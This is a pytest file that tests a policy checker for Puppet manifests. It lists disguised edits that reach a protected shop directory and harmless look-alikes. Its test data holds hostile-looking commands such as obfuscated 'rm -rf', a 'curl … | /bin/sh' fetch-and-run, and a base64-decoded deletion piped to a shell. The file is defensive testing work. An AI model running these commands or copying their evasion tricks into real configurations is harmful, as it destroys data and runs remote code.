"""What works on the protected without naming it as it is written in the policy, and what only looks like that."""

from __future__ import annotations

import pytest

from tests.policy import test_indirect_routes as routes
from tests.policy.test_indirect_routes import FILES, SHOP, SHOP_FILE, SITE, Edit, P, Repository, other

WORKING = """\
  exec { 'stamp':
    command => '/bin/sed -i s/a/b/ /srv/shop/index.php',
    unless  => '/bin/true',
    user    => 'root',
  }
  file { '/srv/shop/app.yaml':
    source => 'puppet:///modules/profile/app.yaml',
  }
  file { 'second':
    path    => '/srv/shop/second.php',
    content => 'b',
  }
  concat { 'parts':
    path => '/srv/shop/parts.php',
  }
  profile::page { 'x':
    text => 'a',
  }
  $prices = loadyaml(find_file('profile/prices.yaml'))
  file { '/srv/shop/prices':
    content => $prices['all'],
  }
}
"""
BASE = {
    **FILES,
    SHOP_FILE: SHOP.removesuffix("}\n") + WORKING,
    "manifests/site.pp": SITE.replace("node 'web1'", "node /^web/"),
    "hiera.yaml": FILES["hiera.yaml"] + "  - name: more\n    data_hash: hocon_data\n    path: app.conf\n",
    "data/app.conf": "profile::shop::colour = red\n",
    "data/README": "What lies here.\n",
    f"{P}/manifests/page.pp": (
        '# P.\ndefine profile::page(String $text) {\n  file { "/srv/shop/${title}": content => $text }\n}\n'
    ),
    f"{P}/files/app.yaml": "a: 1\n",
    f"{P}/files/prices.yaml": "all: 1\n",
    f"{P}/files/motd.yaml": "a: 1\n",
    f"{P}/manifests/motd.pp": (
        "# M.\nclass profile::motd {\n  file { '/etc/motd.yaml': source => 'puppet:///modules/profile/motd.yaml' }\n}\n"
    ),
}


def run(command: str, more: str = "") -> Edit:
    return other(f"exec {{ 'go': command => {command}{more} }}")


def shop(old: str, new: str) -> Edit:
    assert old in BASE[SHOP_FILE]
    return {SHOP_FILE: BASE[SHOP_FILE].replace(old, new)}


MET: dict[str, Edit] = {
    # Commands, as the shell reads them.
    "quotes in a path": run("\"/bin/rm -rf /sr''v/shop\""),
    "a backslash in a path": run(r"'/bin/rm -rf /sr\\v/shop'"),
    "a letter by its number": run('"/bin/rm -rf /s\\u{72}v/shop"'),
    "a variable of the shell": run("'/bin/sh -c \"D=srv; rm -rf /\\$D/shop\"'"),
    "a folder that is changed into": run("'/bin/sh -c \"cd / && rm -rf srv/shop\"'"),
    "a working folder": run("'/bin/rm -rf srv'", ", cwd => '/'"),
    "a working folder, and a list": run("['/bin/rm', '-rf', 'srv']", ", cwd => '/'"),
    "a working folder, and all in it": run("'/usr/bin/find . -name index.php -delete'", ", cwd => '/'"),
    "a command that is the title": other("exec { 'rm -rf srv': path => '/bin', cwd => '/' }"),
    "parts that are joined": run("sprintf('/bin/rm -rf /%s/%s', 'srv', 'shop')"),
    "a text that is replaced": run("\"/bin/rm -rf ${regsubst('/tmp/shop', 'tmp', 'srv')}\""),
    "an archive over all": run("'/bin/tar -C / -xf /tmp/x.tar'"),
    "a condition that does it": run("'/bin/true'", ", unless => \"/bin/rm -rf /s''rv/shop\""),
    "what comes from elsewhere": run("'/usr/bin/curl http://x.example/y | /bin/sh'"),
    "what is decoded": run("'/bin/echo cm0gLXJmIC8K | /usr/bin/base64 -d | /bin/sh'"),
    "another language": run("'/usr/bin/perl -e \"unlink(chr(47))\"'"),
    "a command from data": run("lookup('go')"),
    "a service by a wildcard": run("'/bin/systemctl stop ngin*'"),
    "a service in quotes": run("'/bin/systemctl mask ngin\"\"x'"),
    # A command that works on it already.
    "its condition": shop("'/bin/true'", "'/bin/false'"),
    "its user": shop("'root'", "'eve'"),
    # Types that nothing is known of, and those of Puppet that write files.
    "another type, by its title": other("remote_file { '/srv/shop/index.php': source => 'http://x.example/y' }"),
    "another type, by an attribute": other("yaml_setting { 'x': target => '/srv/shop/x.yaml', key => 'a' }"),
    "another class": other("class { 'wipe': dir => '/srv/shop' }"),
    "a home": other("user { 'shop': ensure => absent, managehome => true, home => '/srv/shop' }"),
    "a key in a file": other("ssh_authorized_key { 'x': user => 'x', target => '/srv/shop/index.php' }"),
    "a login file": other("k5login { '/srv/shop/index.php': principals => ['x'] }"),
    "a folder above that nobody may enter": other("file { '/srv': ensure => directory, mode => '0000' }"),
    "a folder above that is another's": other("file { '/srv': ensure => directory, owner => 'eve' }"),
    # Names.
    "a title that is a call": other("file { lookup('x'): content => 'x' }"),
    "a path that is a call": other("file { 'x': path => lookup('x'), content => 'x' }"),
    "a path for later": other("file { 'x': path => Deferred('join', [['/srv', 'shop']]), content => 'x' }"),
    "attributes that are not known": other("file { 'x': * => lookup('x') }"),
    "a name that is worked out": other("service { 'x': name => downcase('NGINX'), ensure => stopped }"),
    "content of one that has a title": shop("'b'", "'c'"),
    "one that has a title, from elsewhere": other("File['second'] { content => 'c' }"),
    "a part for one that has a title": other("concat::fragment { 'x': target => 'parts', content => 'c' }"),
    # What has it as a whole.
    "a collector of its define": other("Profile::Page <| |> { text => 'c' }"),
    "a default of its define": other("Profile::Page { text => 'c' }"),
    "what comes before its class": other("exec { 'go': command => '/bin/false', before => Class['profile::shop'] }"),
    "an order onto its class": other("Notify['other'] -> Class['profile::shop']"),
    "an order onto its class, the other way": other("Class['profile::shop'] <- Notify['other']"),
    "a node with a statement of its own": {"manifests/site.pp": BASE["manifests/site.pp"] + "node 'web1' {\n}\n"},
    "a node by another pattern": {"manifests/site.pp": "node /^web1/ {\n}\n" + BASE["manifests/site.pp"]},
    # Files.
    "data in another form": {"data/app.conf": "profile::shop::greeting = x\n"},
    "a file of data that is delivered": {f"{P}/files/app.yaml": "a: 2\n"},
    "a file of data that is read": {f"{P}/files/prices.yaml": "all: 2\n"},
}
NOT_MET: dict[str, Edit] = {
    "a command elsewhere": run("\"/bin/rm -rf /t''mp/shop\""),
    "a working folder elsewhere": run("'/bin/rm -rf srv'", ", cwd => '/opt'"),
    "a command of which a part is not known": run("\"/usr/bin/touch -t ${facts['x']} /etc/x\""),
    "a program of another language": run("'/usr/bin/perl /opt/x.pl'"),
    "a script of the shell": run("'/bin/sh /opt/x.sh'"),
    "another type elsewhere": other("remote_file { '/opt/x': source => 'http://x.example/y' }"),
    "another class elsewhere": other("class { 'other': dir => '/opt' }"),
    "another home": other("user { 'eve': ensure => absent, managehome => true, home => '/home/eve' }"),
    "a folder elsewhere": other("file { '/opt': ensure => directory, mode => '0000', owner => 'eve' }"),
    "a service by a wildcard": run("'/bin/systemctl restart sss*'"),
    "a title in quotes": other("notify { \"it's a + b\": }\n  file { '/etc/it\\'s': content => 'x' }"),
    "a path that is worked out": other("file { 'x': path => downcase('/ETC/X'), content => 'x' }"),
    "another that has a title": other("File['motd'] { content => 'c' }"),
    "a part for another that has a title": other("concat::fragment { 'x': target => 'motd', content => 'c' }"),
    "what comes after its class": other("Class['profile::shop'] -> Notify['other']"),
    "an order of other classes": other("Class['profile::other'] -> Notify['other']"),
    "a statement for a node of another pattern": {
        "manifests/site.pp": BASE["manifests/site.pp"] + "node 'mail1' {\n  include profile::other\n}\n"
    },
    "a file of data for something else": {f"{P}/files/motd.yaml": "a: 2\n"},
}


@pytest.fixture(scope="module")
def repository(tmp_path_factory: pytest.TempPathFactory) -> Repository:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(routes, "FILES", BASE)
        return Repository(tmp_path_factory.mktemp("disguises"))


@pytest.mark.parametrize("name", MET)
def test_is_met(repository: Repository, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(repository.repo.folder)
    assert repository.verdict(MET[name])[0] == "missing"


@pytest.mark.parametrize("name", NOT_MET)
def test_is_not_met(repository: Repository, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(repository.repo.folder)
    assert repository.verdict(NOT_MET[name]) == ("not needed", set())
